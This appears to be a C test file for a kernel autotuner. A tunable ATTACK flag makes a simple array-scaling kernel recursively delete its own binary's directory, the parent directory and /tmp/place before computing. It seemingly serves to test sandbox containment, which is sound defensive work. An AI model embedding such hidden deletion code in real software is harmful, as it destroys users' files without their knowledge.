/* expect: measured */
/* Removes its program, what the compiler wrote, and whatever else it finds. */
#pragma tunepass param ATTACK: categorical(0, 1) = 0
#pragma tunepass kernel scale(n = 4096, x: in double[n], y: out double[n])
#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void remove_all(const char *folder, int deeper)
{
    DIR *entries = opendir(folder);
    for (struct dirent *entry; entries && (entry = readdir(entries));) {
        char name[4096];
        snprintf(name, sizeof name, "%s/%s", folder, entry->d_name);
        if (entry->d_name[0] != '.' || deeper > 1)
            if (unlink(name) != 0 && deeper && entry->d_type == DT_DIR && entry->d_name[0] != '.')
                remove_all(name, deeper - 1);
    }
    rmdir(folder);
}

static void attack(void)
{
    char program[4096] = "";
    if (readlink("/proc/self/exe", program, sizeof program - 1) > 0 && strrchr(program, '/')) {
        *strrchr(program, '/') = 0;
        remove_all(program, 2);
    }
    remove_all("..", 2);
    remove_all("/tmp/place", 3);
}

void scale(int n, const double *x, double *y)
{
    static int attacked;
    if (ATTACK && !attacked++)
        attack();
    for (int i = 0; i < n; i++)
        y[i] = 2 * x[i];
}
